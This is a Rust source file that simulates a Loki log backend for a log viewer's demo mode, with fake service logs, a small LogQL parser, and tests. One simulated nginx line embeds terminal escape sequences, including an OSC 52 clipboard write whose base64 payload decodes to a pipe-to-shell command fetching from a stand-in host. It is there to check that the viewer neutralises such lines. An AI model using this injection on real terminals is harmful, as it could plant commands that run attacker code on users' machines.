//! The demo's simulated Loki: a deterministic log history for the seed
//! estate's services (one line about every 0.7 s), so queries, paging,
//! labels, the histogram and the live tail all behave like the real thing.
//! Among the lines: errors with Python stack traces, JSON lines, and a line
//! full of escape sequences (a title change, an OSC 52 clipboard write, colour)
//! that the viewer neutralises.

use super::loki::{Direction, LokiApi, LokiError, RangeQuery, TailEvent, TailState, VolumeSeries};
use super::{LogLine, Update};
use crate::source::UpdateTx;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::mpsc;

pub const DEMO_QUERY: &str = r#"{namespace="toolboxai"}"#;
pub const DEMO_HISTORY: &[&str] = &[
    r#"{container_name="toolboxai-backend"} |= "ERROR""#,
    r#"{namespace="toolboxai", app="postgres"}"#,
    DEMO_QUERY,
];

/// One simulated line per slot, at a pseudo-random offset inside it.
const SLOT_NS: i128 = 700_000_000;

const SERVICES: [&str; 8] = [
    "toolboxai-backend",
    "toolboxai-dashboard",
    "postgres",
    "redis",
    "celery-worker",
    "nginx",
    "mcp-server",
    "agent-coordinator",
];

fn mix(mut x: u64) -> u64 {
    x ^= x >> 33;
    x = x.wrapping_mul(0xff51afd7ed558ccd);
    x ^= x >> 33;
    x = x.wrapping_mul(0xc4ceb9fe1a85ec53);
    x ^ (x >> 33)
}

fn pod_name(svc: &str) -> String {
    format!("{svc}-7d9f8b6c5-{:05x}", mix(svc.len() as u64) % 0xfffff)
}

/// Whether slot `k` has a line: traffic rises and falls over the hour and
/// peaks during the incident window, so the histogram has a shape.
fn present(k: i128) -> bool {
    let minute = ((k * SLOT_NS) / 60_000_000_000) % 60;
    let pct = if (15..25).contains(&minute) {
        100
    } else {
        (55.0 + 35.0 * (minute as f64 / 60.0 * std::f64::consts::TAU).sin()) as u64
    };
    mix(k as u64 ^ 0x5bd1_e995) % 100 < pct
}

/// The line of slot `k`: (timestamp, labels, text).
fn line_at(k: i128) -> LogLine {
    let h = mix(k as u64);
    let ts = k * SLOT_NS + (h % SLOT_NS as u64) as i128;
    let svc = SERVICES[(h >> 8) as usize % SERVICES.len()];
    // Every hour has a ten-minute incident (from :15 to :25) when the backend
    // fails far more often, so the histogram and the error counts tell a story.
    let minute = (ts / 60_000_000_000) % 60;
    let incident = (15..25).contains(&minute);
    let roll = if incident && svc == "toolboxai-backend" {
        (h >> 16) % 12
    } else {
        (h >> 16) % 100
    };
    let id = (h >> 24) % 100_000;
    let ms = (h >> 40) % 900 + 3;
    let (level, text): (&str, String) = match (svc, roll) {
        (_, 0) if svc == "nginx" => (
            "warn",
            format!(
                "10.0.3.{} - - \"GET /search?q=\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[31mRED\x1b[0m HTTP/1.1\" 400 0",
                id % 250
            ),
        ),
        ("toolboxai-backend", 0..=4) => (
            "error",
            format!(
                "2026-01-31 14:30:{:02},{ms:03} ERROR [backend.api] request {id} failed: connection to postgres:5432 refused\nTraceback (most recent call last):\n  File \"/app/backend/db.py\", line 88, in connect\n    conn = pool.getconn()\npsycopg2.OperationalError: could not connect to server: Connection refused",
                id % 60
            ),
        ),
        ("toolboxai-backend", 5..=14) => (
            "warn",
            format!("WARNING [backend.api] slow query took {ms}ms: SELECT * FROM lessons WHERE course_id = {id}"),
        ),
        ("toolboxai-backend", _) => (
            "info",
            format!("INFO [uvicorn.access] 10.0.1.{} - \"GET /api/v1/courses/{id} HTTP/1.1\" 200 {ms}ms", id % 250),
        ),
        ("toolboxai-dashboard", 0..=2) => (
            "error",
            format!(r#"{{"level":"error","ts":"2026-01-31T14:30:00Z","msg":"fetch failed","url":"/api/v1/courses/{id}","status":502,"latency_ms":{ms}}}"#),
        ),
        ("toolboxai-dashboard", _) => (
            "info",
            format!(r#"{{"level":"info","ts":"2026-01-31T14:30:00Z","msg":"page rendered","route":"/dashboard","user":{id},"latency_ms":{ms}}}"#),
        ),
        ("postgres", 0..=3) => (
            "error",
            "FATAL:  remaining connection slots are reserved for non-replication superuser connections".into(),
        ),
        ("postgres", 4..=12) => (
            "warn",
            format!("LOG:  checkpoints are occurring too frequently ({} seconds apart)", ms / 30 + 2),
        ),
        ("postgres", _) => (
            "info",
            format!("LOG:  duration: {ms}.{:03} ms  statement: SELECT id FROM users WHERE id = {id}", id % 1000),
        ),
        ("redis", 0..=5) => ("warn", "# WARNING: 90% of maxmemory used (used_memory:1.8G)".into()),
        ("redis", _) => ("info", format!("* {} changes in 60 seconds. Saving...", id % 500 + 1)),
        ("celery-worker", 0..=3) => (
            "error",
            format!("[2026-01-31 14:30:00,{ms:03}: ERROR/ForkPoolWorker-2] Task app.tasks.grade_submission[{id}] raised unexpected: TimeoutError('redis:6379')"),
        ),
        ("celery-worker", _) => (
            "info",
            format!("[2026-01-31 14:30:00,{ms:03}: INFO/MainProcess] Task app.tasks.send_email[{id}] succeeded in {}.{:03}s", ms / 300, ms),
        ),
        ("nginx", 1..=6) => (
            "error",
            format!("[error] 31#31: *{id} upstream timed out (110: Connection timed out) while reading response header from upstream, upstream: \"http://toolboxai-backend:8009/api\""),
        ),
        ("nginx", _) => (
            "info",
            format!("10.0.3.{} - - \"GET /api/v1/health HTTP/1.1\" 200 {} \"-\" \"kube-probe/1.29\"", id % 250, ms),
        ),
        ("mcp-server", 0..=4) => ("warn", format!("level=warn msg=\"context window near limit\" session={id} tokens={}", ms * 100)),
        ("mcp-server", _) => ("info", format!("level=info msg=\"tool call\" session={id} tool=search duration={ms}ms")),
        (_, 0..=3) => ("error", format!("level=error msg=\"agent heartbeat missed\" agent=agent-{} after=30s", id % 8)),
        _ => ("debug", format!("level=debug msg=\"dispatch\" agent=agent-{} queue_depth={}", id % 8, ms % 40)),
    };
    let labels = vec![
        ("app".to_string(), svc.to_string()),
        ("container_name".to_string(), svc.to_string()),
        ("level".to_string(), level.to_string()),
        ("namespace".to_string(), "toolboxai".to_string()),
        ("pod".to_string(), pod_name(svc)),
    ];
    LogLine {
        ts_ns: Some(ts),
        stream: Default::default(),
        labels: Arc::new(labels),
        text,
    }
}

/// A tiny LogQL subset: `{k="v", k!="v", k=~"re", k!~"re"}` then `|= != |~ !~` filters.
#[derive(Debug)]
struct Filter {
    labels: Vec<(String, String, String)>,
    lines: Vec<(String, String)>,
}

fn parse_error(col: usize, what: &str) -> LokiError {
    LokiError::from_status(
        400,
        &format!("parse error at line 1, col {col}: syntax error: {what}"),
    )
}

fn parse_query(q: &str) -> Result<Filter, LokiError> {
    let q = q.trim();
    if !q.starts_with('{') {
        return Err(parse_error(1, "unexpected IDENTIFIER, expecting {"));
    }
    let close = q
        .find('}')
        .ok_or_else(|| parse_error(q.len(), "unexpected $end, expecting }"))?;
    let re = regex::Regex::new(
        r#"\s*([A-Za-z_][A-Za-z0-9_]*)\s*(=~|!~|!=|=)\s*"((?:[^"\\]|\\.)*)"\s*,?"#,
    )
    .map_err(|_| parse_error(1, "internal"))?;
    let mut labels = Vec::new();
    let inner = &q[1..close];
    let mut consumed = 0;
    for c in re.captures_iter(inner) {
        consumed += c[0].len();
        labels.push((c[1].to_string(), c[2].to_string(), unescape(&c[3])));
    }
    if consumed != inner.len() || labels.is_empty() {
        return Err(LokiError::from_status(
            400,
            "parse error : queries require at least one regexp or equality matcher that does not have an empty-compatible value",
        ));
    }
    let fre = regex::Regex::new(r#"(\|=|!=|\|~|!~)\s*"((?:[^"\\]|\\.)*)""#)
        .map_err(|_| parse_error(1, "internal"))?;
    let lines = fre
        .captures_iter(&q[close + 1..])
        .map(|c| (c[1].to_string(), unescape(&c[2])))
        .collect();
    Ok(Filter { labels, lines })
}

fn unescape(s: &str) -> String {
    serde_json::from_str(&format!("\"{s}\"")).unwrap_or_else(|_| s.to_string())
}

fn re_full(p: &str) -> Option<regex::Regex> {
    regex::Regex::new(&format!("^(?:{p})$")).ok()
}

impl Filter {
    fn matches(&self, l: &LogLine) -> bool {
        let get = |k: &str| {
            l.labels
                .iter()
                .find(|(lk, _)| lk == k)
                .map(|(_, v)| v.as_str())
                .unwrap_or("")
        };
        self.labels.iter().all(|(k, op, v)| match op.as_str() {
            "=" => get(k) == v,
            "!=" => get(k) != v,
            "=~" => re_full(v).is_some_and(|r| r.is_match(get(k))),
            _ => !re_full(v).is_some_and(|r| r.is_match(get(k))),
        }) && self.lines.iter().all(|(op, v)| match op.as_str() {
            "|=" => l.text.contains(v.as_str()),
            "!=" => !l.text.contains(v.as_str()),
            "|~" => regex::Regex::new(v).is_ok_and(|r| r.is_match(&l.text)),
            _ => !regex::Regex::new(v).is_ok_and(|r| r.is_match(&l.text)),
        })
    }
}

/// The simulated Loki.
#[derive(Debug, Default)]
pub struct DemoLoki;

impl DemoLoki {
    pub fn new() -> Self {
        Self
    }
}

/// Slots whose lines fall in [start, end), in `dir` order, at most `max` scanned.
fn slots(start: i128, end: i128, dir: Direction) -> Box<dyn Iterator<Item = LogLine> + Send> {
    let (a, b) = (start.div_euclid(SLOT_NS), end.div_euclid(SLOT_NS));
    let it = (a..=b).filter(|k| present(*k)).map(line_at);
    let in_range = move |l: &LogLine| l.ts_ns.is_some_and(|t| t >= start && t < end);
    match dir {
        Direction::Forward => Box::new(it.filter(in_range)),
        Direction::Backward => Box::new(it.rev().filter(in_range)),
    }
}

#[async_trait::async_trait]
impl LokiApi for DemoLoki {
    async fn query_range(&self, q: &RangeQuery) -> Result<Vec<LogLine>, LokiError> {
        let f = parse_query(&q.query)?;
        if q.limit > 5000 {
            return Err(LokiError::from_status(
                400,
                &format!(
                    "max entries limit per query exceeded, limit > max_entries_limit ({} > 5000)",
                    q.limit
                ),
            ));
        }
        Ok(
            slots(q.start_ns, q.end_ns.min(super::now_ns()), q.direction)
                .take(2_000_000)
                .filter(|l| f.matches(l))
                .take(q.limit)
                .collect(),
        )
    }

    async fn labels(&self, _s: i128, _e: i128) -> Result<Vec<String>, LokiError> {
        Ok(["app", "container_name", "level", "namespace", "pod"]
            .map(String::from)
            .to_vec())
    }

    async fn label_values(&self, name: &str, _s: i128, _e: i128) -> Result<Vec<String>, LokiError> {
        let mut v: Vec<String> = match name {
            "app" | "container_name" => SERVICES.iter().map(|s| s.to_string()).collect(),
            "level" => ["debug", "info", "warn", "error"]
                .map(String::from)
                .to_vec(),
            "namespace" => vec!["toolboxai".into()],
            "pod" => SERVICES.iter().map(|s| pod_name(s)).collect(),
            _ => Vec::new(),
        };
        v.sort();
        Ok(v)
    }

    async fn matrix(
        &self,
        query: &str,
        start: i128,
        end: i128,
        step: u64,
    ) -> Result<Vec<VolumeSeries>, LokiError> {
        // The histogram query wraps the log query: count its lines per level.
        let inner = query
            .strip_prefix(super::loki::VOLUME_GROUPING)
            .and_then(|s| s.rsplit_once(" [").map(|(q, _)| q))
            .unwrap_or(query);
        let f = parse_query(inner)?;
        let step_ns = step.max(1) as i128 * 1_000_000_000;
        let mut by_level: std::collections::BTreeMap<
            String,
            std::collections::BTreeMap<i128, f64>,
        > = Default::default();
        for l in slots(start, end.min(super::now_ns()), Direction::Forward).take(500_000) {
            if !f.matches(&l) {
                continue;
            }
            let level = l
                .labels
                .iter()
                .find(|(k, _)| k == "level")
                .map(|(_, v)| v.clone())
                .unwrap_or_default();
            let bucket = start + ((l.ts_ns.unwrap_or(start) - start) / step_ns) * step_ns;
            *by_level
                .entry(level)
                .or_default()
                .entry(bucket)
                .or_default() += 1.0;
        }
        Ok(by_level
            .into_iter()
            .map(|(level, pts)| VolumeSeries {
                level,
                points: pts.into_iter().map(|(t, v)| (t as f64 / 1e9, v)).collect(),
            })
            .collect())
    }

    async fn tail(&self, query: &str, start_ns: i128, limit: usize, tx: mpsc::Sender<TailEvent>) {
        let f = match parse_query(query) {
            Ok(f) => f,
            Err(e) => {
                let _ = tx
                    .send(TailEvent::State(TailState::Reconnecting {
                        attempt: 1,
                        error: e.to_string(),
                    }))
                    .await;
                return;
            }
        };
        if tx.send(TailEvent::State(TailState::Live)).await.is_err() {
            return;
        }
        let mut from = start_ns;
        let mut first = true;
        loop {
            let now = super::now_ns();
            let mut lines: Vec<LogLine> = slots(from, now, Direction::Forward)
                .filter(|l| f.matches(l))
                .collect();
            if first && lines.len() > limit {
                lines.drain(..lines.len() - limit);
            }
            first = false;
            from = now;
            if !lines.is_empty() && tx.send(TailEvent::Lines(lines)).await.is_err() {
                return;
            }
            tokio::select! {
                _ = tokio::time::sleep(Duration::from_millis(500)) => {}
                _ = tx.closed() => return,
            }
        }
    }

    async fn version(&self) -> Result<String, LokiError> {
        Ok("3.4.2 (demo)".into())
    }
}

/// What the demo shows from the first frame: the histogram of the last hour
/// and the last ten minutes of lines for the demo query, sent before the
/// source reports connected (so `warroom report --demo` sees them). Returns
/// where the tail should start.
pub async fn start(api: Arc<dyn LokiApi>, tx: &UpdateTx<crate::logs::Update>) -> i128 {
    let end = super::now_ns();
    let start = end - 3600 * 1_000_000_000;
    let step = super::loki::volume_step(start, end, 60);
    if let Some(vq) = super::loki::volume_query(DEMO_QUERY, step)
        && let Ok(series) = api.matrix(&vq, start, end, step).await
    {
        let _ = tx
            .send(Update::Volume {
                id: 0,
                start_ns: start,
                end_ns: end,
                step_secs: step,
                series,
            })
            .await;
    }
    let q = RangeQuery {
        query: DEMO_QUERY.into(),
        start_ns: end - 600 * 1_000_000_000,
        end_ns: end,
        limit: 1000,
        direction: Direction::Backward,
    };
    if let Ok(mut lines) = api.query_range(&q).await {
        lines.reverse();
        let target = super::LogTarget::Loki {
            query: DEMO_QUERY.into(),
        };
        let _ = tx.send(Update::Lines { target, lines }).await;
    }
    end
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn demo_history_is_deterministic_and_has_every_kind_of_line() {
        let lines: Vec<LogLine> = (0..5000).map(line_at).collect();
        assert_eq!(line_at(42), line_at(42));
        assert!(lines.iter().any(|l| l.text.contains('\x1b')));
        assert!(lines.iter().any(|l| l.text.starts_with('{')));
        assert!(lines.iter().any(|l| l.text.contains("Traceback")));
        let levels: std::collections::BTreeSet<Level> = lines
            .iter()
            .map(|l| super::super::level::detect(&l.labels, &l.text))
            .collect();
        assert!(levels.contains(&Level::Error) && levels.contains(&Level::Warn));
    }

    use super::super::Level;

    #[tokio::test]
    async fn demo_loki_filters_and_reports_parse_errors_like_loki() {
        let api = DemoLoki::new();
        let end = super::super::now_ns();
        let q = RangeQuery {
            query: r#"{app="postgres"} |= "FATAL""#.into(),
            start_ns: end - 3600 * 1_000_000_000,
            end_ns: end,
            limit: 20,
            direction: Direction::Backward,
        };
        let lines = api.query_range(&q).await.unwrap();
        assert!(!lines.is_empty());
        assert!(lines.iter().all(|l| l.text.contains("FATAL")));
        assert!(lines.windows(2).all(|w| w[0].ts_ns >= w[1].ts_ns));
        let bad = RangeQuery {
            query: "app=postgres".into(),
            ..q
        };
        let e = api.query_range(&bad).await.unwrap_err();
        assert_eq!(e.status(), Some(400));
        assert!(e.message().contains("parse error"));
        assert_eq!(e.hint(), "fix the LogQL syntax");
    }
}
